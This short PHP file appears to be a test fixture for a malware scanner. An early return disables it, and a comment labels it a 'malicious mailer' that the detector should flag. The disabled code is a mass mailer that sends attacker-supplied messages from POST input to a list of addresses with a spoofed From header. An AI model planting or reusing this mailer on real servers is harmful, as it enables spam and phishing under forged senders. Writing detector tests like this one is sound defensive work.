<?php return; // want: malicious mailer php.mail.request
$allemails = preg_split("/\r\n|\n/", $_POST['emaillist']);
for ($x = 0; $x < count($allemails); $x++) {
	$to = $allemails[$x];
	$body = str_replace('&email&', $to, $_POST['message']);
	mail($to, $_POST['subject'], $body, 'From: ' . $_POST['from']);
}
